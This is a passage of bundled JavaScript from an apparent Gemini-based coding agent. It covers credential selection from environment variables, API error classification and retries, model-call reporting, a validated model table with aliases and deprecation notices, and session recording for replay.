    return new GoogleAuth({ scopes: [CLOUD_PLATFORM_SCOPE] });
}
/**
 * The content generator for `auth`, wrapped in retries. Recording (when asked) sits inside the
 * retries, so a recording holds exactly the replies the session was given, including unusable ones
 * it retried, and replays the same way. Each attempt is reported inside the retries too, as the
 * Gemini CLI logs each one. A host that cannot be reached ends in one line naming the base URL and
 * the variable that sets it.
 */
async function createContentGenerator(auth, options = {}) {
    let transport;
    if (auth.type === 'code-assist') {
        transport = new CodeAssistContentGenerator({
            credentials: options.codeAssistCredentials ?? (await defaultCodeAssistCredentials()),
            ...(auth.project !== undefined ? { project: auth.project } : {}),
            ...(auth.baseUrl !== undefined ? { baseUrl: auth.baseUrl } : {}),
            ...(options.sessionId !== undefined ? { sessionId: options.sessionId } : {}),
            ...(options.fetch ? { fetch: options.fetch } : {}),
        });
    }
    else {
        transport = createGenaiContentGenerator(auth, {
            ...(options.fetch ? { fetch: options.fetch } : {}),
            ...(options.googleAuthOptions ? { googleAuthOptions: options.googleAuthOptions } : {}),
        });
    }
    if (options.recordTo !== undefined) {
        transport = new recording/* RecordingContentGenerator */.oQ(transport, options.recordTo);
    }
    if (options.onModelCall !== undefined) {
        transport = (0,model_calls/* reportModelCalls */.h)(transport, options.onModelCall);
    }
    return explainUnreachable((0,retry/* withRetry */.bD)(transport, options.retry), modelEndpoint(auth));
}


/***/ }),

/***/ 87206:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   j: () => (/* binding */ ModelRequestError)
/* harmony export */ });
/**
 * What the API says when it does not serve a model under that name: 404 NOT_FOUND ("models/x is
 * not found for API version v1beta, or is not supported for generateContent"; Vertex: "Publisher
 * Model … was not found"), or a 400 that says the model is unknown or unsupported.
 */
const MODEL_UNKNOWN = /not found|does not exist|not supported for (?:stream)?generatecontent|unsupported model|\bmodel\b.{0,80}?\bis not supported/i;
class ModelRequestError extends Error {
    name = 'ModelRequestError';
    kind;
    /** HTTP status, when the server answered. */
    status;
    /** The Google error's status name, e.g. `NOT_FOUND` or `RESOURCE_EXHAUSTED`. */
    apiStatus;
    /** The Google error's own message (`error.message` of the body). */
    apiMessage;
    /** The quotas a 429 names (`google.rpc.QuotaFailure` violations' `quotaId`). */
    quotaIds;
    /** How long the server asked us to wait before retrying (`google.rpc.RetryInfo.retryDelay`). */
    retryDelayMs;
    constructor(message, details) {
        super(message, { cause: details.cause });
        this.kind = details.kind;
        this.status = details.status;
        this.apiStatus = details.apiStatus;
        this.apiMessage = details.apiMessage;
        this.quotaIds = details.quotaIds ?? [];
        this.retryDelayMs = details.retryDelayMs;
    }
    /**
     * True for errors that are worth another attempt: 429 (unless a daily quota ran out), 499, 5xx,
     * connections that failed and broken streams.
     */
    get retryable() {
        if (this.kind !== 'http')
            return true;
        if (this.isDailyQuotaExhausted)
            return false;
        const status = this.status ?? 0;
        return status === 429 || status === 499 || status >= 500;
    }
    /** True when the server rejected the credentials (401/403). */
    get isAuthError() {
        return this.status === 401 || this.status === 403;
    }
    /** True when the API does not serve the model asked for (unknown, misspelt or retired). */
    get isModelNotFound() {
        if (this.kind !== 'http' || this.apiMessage === undefined)
            return false;
        if (this.status === 404)
            return this.apiStatus === 'NOT_FOUND' || /model/i.test(this.apiMessage);
        return this.status === 400 && MODEL_UNKNOWN.test(this.apiMessage);
    }
    /** True for a 429: the model's quota (per minute or per day) is used up for now. */
    get isQuotaExhausted() {
        return this.kind === 'http' && this.status === 429;
    }
    /** A 429 for a per-day quota: waiting minutes will not help, so it is not retried. */
    get isDailyQuotaExhausted() {
        return this.isQuotaExhausted && this.quotaIds.some((id) => /PerDay/i.test(id));
    }
}


/***/ }),

/***/ 67815:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   k: () => (/* binding */ resolveModelAuth)
/* harmony export */ });
/* harmony import */ var _platform_errors_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(46316);

const HOW_TO_SET_UP = 'Set GEMINI_API_KEY, or GOOGLE_GENAI_USE_VERTEXAI=true with GOOGLE_CLOUD_PROJECT and GOOGLE_CLOUD_LOCATION (or GOOGLE_API_KEY), or GOOGLE_GENAI_USE_GCA=true.';
function value(env, name) {
    const raw = env[name]?.trim();
    return raw === '' ? undefined : raw;
}
function flag(env, name) {
    return value(env, name)?.toLowerCase() === 'true';
}
function baseUrl(env, name) {
    const url = value(env, name);
    if (url === undefined)
        return {};
    let parsed;
    try {
        parsed = new URL(url);
    }
    catch {
        throw new _platform_errors_js__WEBPACK_IMPORTED_MODULE_0__/* .ConfigurationError */ .j1(`expected an http(s) URL, got ${JSON.stringify(url)}.`, {
            input: name,
        });
    }
    if (parsed.protocol !== 'http:' && parsed.protocol !== 'https:') {
        throw new _platform_errors_js__WEBPACK_IMPORTED_MODULE_0__/* .ConfigurationError */ .j1(`expected an http(s) URL, got ${JSON.stringify(url)}.`, {
            input: name,
        });
    }
    return { baseUrl: url };
}
/**
 * Chooses the model transport from environment variables, in the Gemini CLI's order:
 * `GOOGLE_GENAI_USE_GCA=true` (Code Assist), then `GOOGLE_GENAI_USE_VERTEXAI=true` (Vertex AI),
 * then `GEMINI_API_KEY` (Gemini API). Base URLs come from `GOOGLE_GEMINI_BASE_URL`,
 * `GOOGLE_VERTEX_BASE_URL` and `CODE_ASSIST_ENDPOINT`.
 */
function resolveModelAuth(env) {
    if (flag(env, 'GOOGLE_GENAI_USE_GCA')) {
        const project = value(env, 'GOOGLE_CLOUD_PROJECT') ?? value(env, 'GOOGLE_CLOUD_PROJECT_ID');
        return {
            type: 'code-assist',
            ...(project !== undefined ? { project } : {}),
            ...baseUrl(env, 'CODE_ASSIST_ENDPOINT'),
        };
    }
    if (flag(env, 'GOOGLE_GENAI_USE_VERTEXAI')) {
        const project = value(env, 'GOOGLE_CLOUD_PROJECT');
        const location = value(env, 'GOOGLE_CLOUD_LOCATION');
        const apiKey = value(env, 'GOOGLE_API_KEY');
        const url = baseUrl(env, 'GOOGLE_VERTEX_BASE_URL');
        if (project !== undefined && location !== undefined) {
            return { type: 'vertex-ai', project, location, ...url };
        }
        if (apiKey !== undefined)
            return { type: 'vertex-ai', apiKey, ...url };
        const missing = [project === undefined ? 'GOOGLE_CLOUD_PROJECT' : undefined]
            .concat(location === undefined ? 'GOOGLE_CLOUD_LOCATION' : undefined)
            .filter((name) => name !== undefined);
        throw new _platform_errors_js__WEBPACK_IMPORTED_MODULE_0__/* .AuthenticationError */ .v3(`GOOGLE_GENAI_USE_VERTEXAI=true needs GOOGLE_CLOUD_PROJECT and GOOGLE_CLOUD_LOCATION (or GOOGLE_API_KEY for Vertex AI express mode); ${missing.join(' and ')} ${missing.length > 1 ? 'are' : 'is'} not set.`);
    }
    const apiKey = value(env, 'GEMINI_API_KEY');
    if (apiKey !== undefined) {
        return { type: 'gemini-api-key', apiKey, ...baseUrl(env, 'GOOGLE_GEMINI_BASE_URL') };
    }
    throw new _platform_errors_js__WEBPACK_IMPORTED_MODULE_0__/* .AuthenticationError */ .v3(`No model credentials found. ${HOW_TO_SET_UP}`);
}


/***/ }),

/***/ 89584:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   h: () => (/* binding */ reportModelCalls),
/* harmony export */   r: () => (/* binding */ ModelCalls)
/* harmony export */ });
/* harmony import */ var _platform_errors_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(46316);
/* harmony import */ var _errors_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(87206);


/**
 * Where the records go: the model layer reports into it, and each session subscribes while it
 * runs, so its event stream (and every consumer of it) sees the calls made on its behalf.
 */
class ModelCalls {
    listeners = new Set();
    /** Adds a listener; returns the function that removes it. */
    subscribe(listener) {
        this.listeners.add(listener);
        return () => {
            this.listeners.delete(listener);
        };
    }
    report = (call) => {
        for (const listener of this.listeners) {
            try {
                listener(call);
            }
            catch {
                // A broken reporter must not fail a model request.
            }
        }
    };
}
/** Reports every generate request of `inner` (each attempt, when inside the retries). */
function reportModelCalls(inner, report, now = Date.now) {
    const attempt = (request, promptId) => {
        const startedAt = now();
        const tally = new ReplyTally();
        return {
            tally,
            done: (error) => {
                report({
                    model: request.model,
                    promptId,
                    startedAt,
                    durationMs: Math.max(0, now() - startedAt),
                    ...tally.result(),
                    ...(error === undefined ? {} : { error: describeFailure(error, request) }),
                });
            },
        };
    };
    return {
        async generateContent(request, promptId) {
            const call = attempt(request, promptId);
            try {
                const response = await inner.generateContent(request, promptId);
                call.tally.add(response);
                call.done();
                return response;
            }
            catch (error) {
                call.done(error);
                throw error;
            }
        },
        async generateContentStream(request, promptId) {
            const call = attempt(request, promptId);
            let stream;
            try {
                stream = await inner.generateContentStream(request, promptId);
            }
            catch (error) {
                call.done(error);
                throw error;
            }
            return (async function* observed() {
                let failure;
                let finished = false;
                try {
                    for await (const chunk of stream) {
                        call.tally.add(chunk);
                        yield chunk;
                    }
                    finished = true;
                }
                catch (error) {
                    failure = error;
                    throw error;
                }
                finally {
                    // A reader that stops early (a cancelled session) ends the attempt too.
                    call.done(finished ? undefined : (failure ?? new Error('The reply was not read to its end.')));
                }
            })();
        },
        countTokens(request) {
            return inner.countTokens(request);
        },
    };
}
/** What the chunks of one reply said about the model, the tokens and how it ended. */
class ReplyTally {
    responseModel;
    usage;
    finishReasons = [];
    add(chunk) {
        if (chunk.modelVersion)
            this.responseModel = chunk.modelVersion;
        if (chunk.usageMetadata)
            this.usage = chunk.usageMetadata;
        for (const candidate of chunk.candidates ?? []) {
            if (candidate.finishReason)
                this.finishReasons.push(candidate.finishReason);
        }
    }
    result() {
        return {
            ...(this.responseModel === undefined ? {} : { responseModel: this.responseModel }),
            ...(this.usage === undefined ? {} : { usage: this.usage }),
            finishReasons: [...this.finishReasons],
        };
    }
}
function describeFailure(error, request) {
    if (error instanceof _errors_js__WEBPACK_IMPORTED_MODULE_1__/* .ModelRequestError */ .j) {
        return {
            message: error.message,
            kind: error.kind,
            ...(error.status === undefined ? {} : { status: error.status }),
        };
    }
    const kind = request.config?.abortSignal?.aborted ? 'cancelled' : 'unknown';
    return { message: (0,_platform_errors_js__WEBPACK_IMPORTED_MODULE_0__/* .errorMessage */ .gJ)(error), kind };
}


/***/ }),

/***/ 11106:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   ID: () => (/* binding */ modelNotFoundMessage),
/* harmony export */   Rv: () => (/* binding */ fallbackNotice),
/* harmony export */   fc: () => (/* binding */ chooseRunModels),
/* harmony export */   pw: () => (/* binding */ quotaExhaustedMessage)
/* harmony export */ });
/* unused harmony exports chooseModel, modelLabel */
/* harmony import */ var _model_table_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(90109);

/**
 * The first setting that chooses a model, aliases resolved; the table's default when none does.
 * `howToChoose` names the places in the user's words, for messages.
 */
function chooseModel(settings, howToChoose) {
    for (const setting of settings) {
        const value = setting.value?.trim();
        if (value === undefined || value === '')
            continue;
        const { name, alias } = (0,_model_table_js__WEBPACK_IMPORTED_MODULE_0__/* .resolveModelAlias */ .kV)(value);
        return { name, ...(alias !== undefined ? { alias } : {}), setBy: setting.setBy, howToChoose };
    }
    return { name: _model_table_js__WEBPACK_IMPORTED_MODULE_0__/* .DEFAULT_MODEL */ .UB, setBy: 'the default', howToChoose };
}
/**
 * A run's models, in the Gemini CLI's order: the front end's own setting (`--model`, the `model`
 * input), `GEMINI_MODEL`, the settings file's `model.name`, the table's default; and the fallback
 * model its setting names, if any.
 */
function chooseRunModels(options) {
    const { explicit, env, settings, fallback, howToChoose } = options;
    const model = chooseModel([
        explicit,
        { value: env['GEMINI_MODEL'], setBy: 'the GEMINI_MODEL variable' },
        { value: settings.modelName, setBy: `model.name in ${settings.source}` },
    ], howToChoose);
    if (fallback.value === undefined || fallback.value.trim() === '')
        return { model };
    return { model, fallbackModel: chooseModel([fallback], howToChoose) };
}
/** `gemini-3.8-flash` or `gemini-3.8-flash (flash)`. */
function modelLabel(choice) {
    return choice.alias === undefined ? choice.name : `${choice.name} (${choice.alias})`;
}
function apiAnswer(error) {
    const status = [error.status, error.apiStatus].filter((part) => part !== undefined).join(' ');
    return status === '' ? '' : ` (HTTP ${status})`;
}
/** How to choose another model: the places, the aliases and where the current names are listed. */
function howToChooseAnother(choice) {
    return `Choose another with ${choice.howToChoose}: an alias (${(0,_model_table_js__WEBPACK_IMPORTED_MODULE_0__/* .describeAliases */ .iS)()}) or a name from ${_model_table_js__WEBPACK_IMPORTED_MODULE_0__/* .MODEL_TABLE */ .FU.sources['models'] ?? 'the Gemini API models page'}.`;
}
/** The run's end when the API does not serve the model: no retry helps, so one clear line. */
function modelNotFoundMessage(choice, error) {
    return `The model ${modelLabel(choice)} was not found${apiAnswer(error)}: the API does not serve a model by that name (misspelt, not available to this account, or retired). It was set by ${choice.setBy}. ${howToChooseAnother(choice)}`;
}
/** The run's end when the model's quota is used up and no fallback model is set. */
function quotaExhaustedMessage(choice, error) {
    const quota = error.quotaIds.length > 0 ? ` (${error.quotaIds.join(', ')})` : '';
    return `The quota of the model ${modelLabel(choice)} is exhausted${apiAnswer(error)}${quota}. Wait until it resets or raise it, choose another model with ${choice.howToChoose}, or set a fallback model.`;
}
/** What the report says when the run goes on with the fallback model. */
function fallbackNotice(from, to, error) {
    const why = error.isModelNotFound
        ? `was not found${apiAnswer(error)}`
        : `has no quota left${apiAnswer(error)}`;
    return `The model ${modelLabel(from)} ${why}; continuing with the fallback model ${modelLabel(to)} (set by ${to.setBy}).`;
}


/***/ }),

/***/ 90109:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  UB: () => (/* binding */ DEFAULT_MODEL),
  FU: () => (/* binding */ MODEL_TABLE),
  B0: () => (/* binding */ deprecationNotice),
  iS: () => (/* binding */ describeAliases),
  uQ: () => (/* binding */ generationConfigFor),
  kV: () => (/* binding */ resolveModelAlias)
});

// UNUSED EXPORTS: familyOf, findModel, parseModelTable

// EXTERNAL MODULE: ./node_modules/@google/genai/dist/node/index.mjs + 1 modules
var node = __webpack_require__(67964);
// EXTERNAL MODULE: ./node_modules/zod/v4/classic/schemas.js + 4 modules
var schemas = __webpack_require__(41514);
;// CONCATENATED MODULE: ./src/model/model-table.json
const model_table_namespaceObject = /*#__PURE__*/JSON.parse('{"checked":"2026-11-26","sources":{"models":"https://ai.google.dev/gemini-api/docs/models","deprecations":"https://ai.google.dev/gemini-api/docs/deprecations","thinking":"https://ai.google.dev/gemini-api/docs/thinking","thinkingLevels":"https://docs.cloud.google.com/gemini-enterprise-agent-platform/models/thinking","gemini3":"https://ai.google.dev/gemini-api/docs/gemini-3","gemini3Sampling":"https://docs.cloud.google.com/vertex-ai/generative-ai/docs/start/gemini-3-prompting-guide","gemini38Flash":"https://docs.cloud.google.com/gemini-enterprise-agent-platform/models/guides/gemini-3-8-flash","gemini25Shutdown":"https://dev.to/aideprecations/what-to-do-before-gemini-25-pro-and-25-flash-are-retired-on-december-1-2026-5gg9"},"default":"gemini-3.8-flash","defaultReason":"The newest generally available (stable) model of the Gemini API (released 2026-09-02, no shutdown date announced), described as the most intelligent Flash model for long-horizon software engineering and agentic tasks; Google names it as the replacement for gemini-2.5-pro, which shuts down on 2026-12-01. Sources: models, deprecations, gemini38Flash, gemini25Shutdown.","aliases":{"pro":"gemini-3.1-pro-preview","flash":"gemini-3.8-flash","flash-lite":"gemini-3.5-flash-lite"},"aliasReason":"Gemini 3 has no generally available Pro model: gemini-3.1-pro-preview is the only Pro model the models page lists, so `pro` chooses it knowingly (a preview model may change or be shut down with shorter notice). `flash` is the default; `flash-lite` the newest stable Flash-Lite model.","families":[{"name":"gemini-3","pattern":"^gemini-3(?:[.-]|$)","thinkingLevel":"HIGH","sampling":null,"why":"Gemini 3 models take `thinkingLevel`, not `thinkingBudget` (thinking). HIGH is supported by every Gemini 3 text model (thinkingLevels) and gives the deepest reasoning for multi-step coding work, as the Gemini CLI sends it. No temperature, topP or topK: Google recommends leaving Gemini 3 at its default temperature of 1.0, as lower values can cause looping or degraded performance (gemini3, gemini3Sampling)."},{"name":"gemini-2.5","pattern":"^gemini-2\\\\.5-","thinkingBudget":8192,"sampling":{"temperature":0,"topP":1},"why":"Gemini 2.5 models take a token `thinkingBudget` and no `thinkingLevel` (thinking); 8192 is the Gemini CLI\'s budget. Deterministic sampling suits a coding agent on these models."}],"models":[{"name":"gemini-3.8-flash","family":"gemini-3","stage":"stable","released":"2026-09-02"},{"name":"gemini-3.7-flash","family":"gemini-3","stage":"stable","released":"2026-08-13"},{"name":"gemini-3.6-flash","family":"gemini-3","stage":"stable","released":"2026-07-21"},{"name":"gemini-3.5-flash","family":"gemini-3","stage":"stable","released":"2026-05-19"},{"name":"gemini-3.5-flash-lite","family":"gemini-3","stage":"stable","released":"2026-07-21","thinkingLevel":"LOW","note":"Flash-Lite is chosen for cost and speed: LOW is the cheapest level the thinking docs describe as suited to code and agentic tasks (its own default, MINIMAL, all but turns thinking off)."},{"name":"gemini-3.1-flash-lite","family":"gemini-3","stage":"stable","released":"2026-05-07","shutdown":"2027-05-07","thinkingLevel":"LOW","note":"As gemini-3.5-flash-lite."},{"name":"gemini-3.1-pro-preview","family":"gemini-3","stage":"preview","released":"2026-02-19"},{"name":"gemini-3-flash-preview","family":"gemini-3","stage":"preview","released":"2025-12-17"},{"name":"gemini-2.5-flash-lite","family":"gemini-2.5","stage":"stable","released":"2025-07-22"},{"name":"gemini-2.5-pro","family":"gemini-2.5","stage":"deprecated","released":"2025-06-17","shutdown":"2026-12-01","replacement":"gemini-3.8-flash"},{"name":"gemini-2.5-flash","family":"gemini-2.5","stage":"deprecated","released":"2025-06-17","shutdown":"2026-12-01","replacement":"gemini-3.5-flash-lite"}]}');
;// CONCATENATED MODULE: ./src/model/model-table.ts
/**
 * The one table of models (model-table.json): the default, the aliases, each model's family and
 * stage, and the generation settings each family takes. Names change often, so they live in that
 * data file with the documentation pages they come from; this module checks it and answers
 * questions about it. Everything else that needs a model fact reads it from here.
 *
 * The table is not a whitelist: a name it does not know is still sent as written, with its
 * family's settings when the name shows the family (`gemini-3…`, `gemini-2.5-…`), and with the
 * API's own defaults otherwise.
 */



const THINKING_LEVELS = ['MINIMAL', 'LOW', 'MEDIUM', 'HIGH'];
const date = schemas/* string */.YjP().regex(/^\d{4}-\d{2}-\d{2}$/, 'expected a date as YYYY-MM-DD');
const modelName = schemas/* string */.YjP().regex(/^[a-z0-9][a-z0-9.-]*$/, 'expected a model name');
/** What a family (and, to override it, a model) sets. Thinking is a level or a budget, not both. */
const settings = {
    thinkingLevel: schemas/* enum */.k5n(THINKING_LEVELS).optional(),
    thinkingBudget: schemas/* number */.aig().int().optional(),
};
const familySchema = schemas/* strictObject */.rej({
    name: schemas/* string */.YjP(),
    /** A regular expression over the model name; how a model not in the table finds its family. */
    pattern: schemas/* string */.YjP(),
    ...settings,
    /** Sampling parameters to send; `null`: send none, the model's defaults apply. */
    sampling: schemas/* strictObject */.rej({
        temperature: schemas/* number */.aig().optional(),
        topP: schemas/* number */.aig().optional(),
        topK: schemas/* number */.aig().optional(),
    })
        .nullable(),
    why: schemas/* string */.YjP(),
});
const modelSchema = schemas/* strictObject */.rej({
    name: modelName,
    family: schemas/* string */.YjP(),
    /** `stable` is generally available; `deprecated` has a shutdown date. */
    stage: schemas/* enum */.k5n(['stable', 'preview', 'deprecated']),
    released: date,
    shutdown: date.optional(),
    replacement: modelName.optional(),
    ...settings,
    note: schemas/* string */.YjP().optional(),
});
const tableSchema = schemas/* strictObject */.rej({
    checked: date,
    sources: schemas/* record */.g1P(schemas/* string */.YjP(), schemas/* url */.OZ5()),
    default: modelName,
    defaultReason: schemas/* string */.YjP(),
    aliases: schemas/* record */.g1P(schemas/* string */.YjP(), modelName),
    aliasReason: schemas/* string */.YjP(),
    families: schemas/* array */.YOg(familySchema),
    models: schemas/* array */.YOg(modelSchema),
})
    .superRefine((table, ctx) => {
    const problem = (message) => {
        ctx.addIssue({ code: 'custom', message });
    };
    const models = new Map(table.models.map((model) => [model.name, model]));
    const families = new Map(table.families.map((family) => [family.name, family]));
    const defaultModel = models.get(table.default);
    if (defaultModel?.stage !== 'stable') {
        problem(`the default ${table.default} must be a stable model of the table`);
    }
    for (const [alias, target] of Object.entries(table.aliases)) {
        if (!models.has(target))
            problem(`alias ${alias} names ${target}, which is not in the table`);
        if (models.has(alias))
            problem(`alias ${alias} is also a model name`);
    }
    for (const family of [...table.families, ...table.models]) {
        if (family.thinkingLevel !== undefined && family.thinkingBudget !== undefined) {
            problem(`${family.name} sets both thinkingLevel and thinkingBudget`);
        }
    }
    for (const model of table.models) {
        const family = families.get(model.family);
        if (family === undefined)
            problem(`${model.name}: unknown family ${model.family}`);
        else if (!new RegExp(family.pattern).test(model.name)) {
            problem(`${model.name} does not match the pattern of its family ${family.name}`);
        }
        if (model.stage === 'deprecated' && model.shutdown === undefined) {
            problem(`${model.name} is deprecated but has no shutdown date`);
        }
        if (model.replacement !== undefined && !models.has(model.replacement)) {
            problem(`${model.name}: its replacement ${model.replacement} is not in the table`);
        }
    }
});
/** Checks a table; throws with every problem listed (a broken data file is a bug, not user input). */
function parseModelTable(raw) {
    const result = tableSchema.safeParse(raw);
    if (!result.success) {
        const problems = result.error.issues.map((issue) => issue.path.length > 0 ? `${issue.path.join('.')}: ${issue.message}` : issue.message);
        throw new Error(`model-table.json is invalid: ${problems.join('; ')}`);
    }
    return result.data;
}
const MODEL_TABLE = parseModelTable(model_table_namespaceObject);
/** The model a run uses when nothing chooses one. */
const DEFAULT_MODEL = MODEL_TABLE.default;
/** `pro = gemini-3.1-pro-preview, flash = …`: the aliases for messages and help texts. */
function describeAliases(table = MODEL_TABLE) {
    return Object.entries(table.aliases)
        .map(([alias, name]) => `${alias} = ${name}`)
        .join(', ');
}
/** The API's `models/` prefix is accepted wherever a name is. */
function bareName(name) {
    return name.replace(/^models\//, '');
}
/** The model an alias stands for, or the name itself. */
function resolveModelAlias(requested, table = MODEL_TABLE) {
    const key = requested.trim().toLowerCase();
    const target = Object.hasOwn(table.aliases, key) ? table.aliases[key] : undefined;
    return target === undefined ? { name: requested.trim() } : { name: target, alias: key };
}
/** The table's entry for a model, if it has one. */
function findModel(name, table = MODEL_TABLE) {
    const bare = bareName(name);
    return table.models.find((model) => model.name === bare);
}
/** The family of a model: its entry's, or the first whose pattern matches the name. */
function familyOf(name, table = MODEL_TABLE) {
    const entry = findModel(name, table);
    if (entry !== undefined)
        return table.families.find((family) => family.name === entry.family);
    const bare = bareName(name);
    return table.families.find((family) => new RegExp(family.pattern).test(bare));
}
/**
 * The generation settings sent with every request to `name`: thinking (a level or a budget, with
 * thought summaries) and sampling parameters only where the family allows them. A model of no
 * known family gets none of them: the API's defaults are safe for any model, guesses are not.
 */
function generationConfigFor(name, table = MODEL_TABLE) {
    const family = familyOf(name, table);
    if (family === undefined)
        return {};
    const entry = findModel(name, table);
    const config = { ...family.sampling };
    // A model's own thinking setting replaces its family's.
    const thinking = entry !== undefined && (entry.thinkingLevel !== undefined || entry.thinkingBudget !== undefined)
        ? entry
        : family;
    if (thinking.thinkingLevel !== undefined) {
        const level = node/* ThinkingLevel */.HL[thinking.thinkingLevel];
        config.thinkingConfig = { includeThoughts: true, thinkingLevel: level };
    }
    else if (thinking.thinkingBudget !== undefined) {
        config.thinkingConfig = { includeThoughts: true, thinkingBudget: thinking.thinkingBudget };
    }
    return config;
}
/**
 * A line to warn with before the first request, for a model the table knows is being shut down;
 * undefined for every other model.
 */
function deprecationNotice(name, table = MODEL_TABLE) {
    const entry = findModel(name, table);
    if (entry?.stage !== 'deprecated')
        return undefined;
    const instead = entry.replacement === undefined ? '' : `; Google recommends ${entry.replacement}`;
    return `${entry.name} is deprecated and shuts down on ${entry.shutdown ?? 'an announced date'}${instead} (${table.sources['deprecations'] ?? 'the Gemini API deprecations page'}).`;
}


/***/ }),

/***/ 26602:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  oQ: () => (/* binding */ RecordingContentGenerator),
  xu: () => (/* binding */ fileRecordingSink),
  hP: () => (/* binding */ readRecordedSession)
});

// UNUSED EXPORTS: parseRecordedSession, serializeRecordedCall

// EXTERNAL MODULE: external "node:fs"
var external_node_fs_ = __webpack_require__(73024);
// EXTERNAL MODULE: external "node:fs/promises"
var promises_ = __webpack_require__(51455);
// EXTERNAL MODULE: ./node_modules/@google/genai/dist/node/index.mjs + 1 modules
var node = __webpack_require__(67964);
// EXTERNAL MODULE: ./src/platform/errors.ts
var errors = __webpack_require__(46316);
// EXTERNAL MODULE: ./node_modules/zod/v4/classic/schemas.js + 4 modules
var schemas = __webpack_require__(41514);
;// CONCATENATED MODULE: ./src/model/response-shape.ts
/**
 * The shape of a GenerateContentResponse (the `@google/genai` type a recorded session replays),
 * checked when a recording is loaded: a hand-edited or truncated file then fails at its own line
 * with what was expected, instead of as an odd model reply in the middle of a replayed run.
 *
 * Only the fields the agent reads are typed; anything else passes through untouched, since the
 * API adds fields over time and a recording must keep replaying.
 */

const functionCall = schemas/* looseObject */._H3({
    id: schemas/* string */.YjP().optional(),
    name: schemas/* string */.YjP(),
    args: schemas/* record */.g1P(schemas/* string */.YjP(), schemas/* unknown */.L5J()).optional(),
});
const part = schemas/* looseObject */._H3({
    text: schemas/* string */.YjP().optional(),
    thought: schemas/* boolean */.zMY().optional(),
    thoughtSignature: schemas/* string */.YjP().optional(),
    functionCall: functionCall.optional(),
});
const candidate = schemas/* looseObject */._H3({
    content: schemas/* looseObject */._H3({ role: schemas/* string */.YjP().optional(), parts: schemas/* array */.YOg(part).optional() })
        .optional(),
    finishReason: schemas/* string */.YjP().optional(),
    index: schemas/* number */.aig().optional(),
});
const count = schemas/* number */.aig().int().nonnegative().optional();
const responseFields = schemas/* looseObject */._H3({
    candidates: schemas/* array */.YOg(candidate).optional(),
    promptFeedback: schemas/* looseObject */._H3({ blockReason: schemas/* string */.YjP().optional() }).optional(),
    usageMetadata: schemas/* looseObject */._H3({
        promptTokenCount: count,
        candidatesTokenCount: count,
        totalTokenCount: count,
        thoughtsTokenCount: count,
        cachedContentTokenCount: count,
    })
        .optional(),
    modelVersion: schemas/* string */.YjP().optional(),
    responseId: schemas/* string */.YjP().optional(),
});
/** What makes an object a reply at all; `{"text": "…"}` alone is not one. */
const REPLY_FIELDS = ['candidates', 'promptFeedback', 'usageMetadata'];
/**
 * Why `value` is not a GenerateContentResponse (the first problem, with the path to it), or
 * undefined when it is one.
 */
function responseShapeProblem(value) {
    if (typeof value !== 'object' || value === null || Array.isArray(value)) {
        return 'expected an object';
    }
    const keys = Object.keys(value);
    if (!REPLY_FIELDS.some((field) => keys.includes(field))) {
        const got = keys.length === 0 ? 'an empty object' : `only ${keys.join(', ')}`;
        return `expected at least one of ${REPLY_FIELDS.join(', ')}, got ${got}`;
    }
    const checked = responseFields.safeParse(value);
    if (checked.success)
        return undefined;
    const issue = checked.error.issues[0];
    if (issue === undefined)
        return 'expected a GenerateContentResponse';
    const where = issue.path.map((key) => (typeof key === 'number' ? `[${key}]` : `.${String(key)}`));
    return `${where.join('').replace(/^\./, '')}: ${issue.message}`;
}

;// CONCATENATED MODULE: ./src/model/recording.ts





const METHODS = [
    'generateContent',
    'generateContentStream',
    'countTokens',
    'embedContent',
];
/**
 * Appends to a file synchronously, one line per call, so a crash keeps every call recorded so far.
 * With `truncate`, the file is emptied first.
 */
function fileRecordingSink(path, options = {}) {
    if (options.truncate)
        (0,external_node_fs_.writeFileSync)(path, '');
    return {
        write: (line) => {
            (0,external_node_fs_.appendFileSync)(path, line);
        },
    };
}
/** A copy without the SDK's `sdkHttpResponse` (headers of the live call; noise in a recording). */
function recordable(response) {
    const copy = { ...response };
    delete copy['sdkHttpResponse'];
    return copy;
}
function serializeRecordedCall(call) {
    return `${JSON.stringify(call)}\n`;
}
/** Records every call of `inner` as it completes; a stream once it has been read. */
class RecordingContentGenerator {
    inner;
    sink;
    constructor(inner, sink) {
        this.inner = inner;
        this.sink = typeof sink === 'string' ? fileRecordingSink(sink) : sink;
    }
    async generateContent(request, promptId) {
        const response = await this.inner.generateContent(request, promptId);
        this.record({ method: 'generateContent', response: recordable(response) });
        return response;
    }
    async generateContentStream(request, promptId) {
        const stream = await this.inner.generateContentStream(request, promptId);
        const record = (chunks) => {
            this.record({ method: 'generateContentStream', response: chunks });
        };
        return recordStream(stream, record);
    }
    async countTokens(request) {
        const response = await this.inner.countTokens(request);
        this.record({ method: 'countTokens', response: recordable(response) });
        return response;
    }
    record(call) {
        this.sink.write(serializeRecordedCall(call));
    }
}
async function* recordStream(stream, record) {
    const chunks = [];
    let failed = false;
    try {
        for await (const chunk of stream) {
            chunks.push(recordable(chunk));
            yield chunk;
        }
    }
    catch (error) {
        // A broken stream is not a reply; the retry that follows will be recorded instead.
        failed = true;
        throw error;
    }
    finally {
        // Also when the consumer stopped early: the call happened and a replay must stay aligned.
        if (!failed)
            record(chunks);
    }
}
function isObject(value) {
    return typeof value === 'object' && value !== null && !Array.isArray(value);
}
function toCall(value, where) {
    const fail = (message) => {
        throw new errors/* ConfigurationError */.j1(message, where);
    };
    if (!isObject(value))
        return fail('expected a JSON object {"method": …, "response": …}.');
    const method = value['method'];
    if (typeof method !== 'string' || !METHODS.includes(method)) {
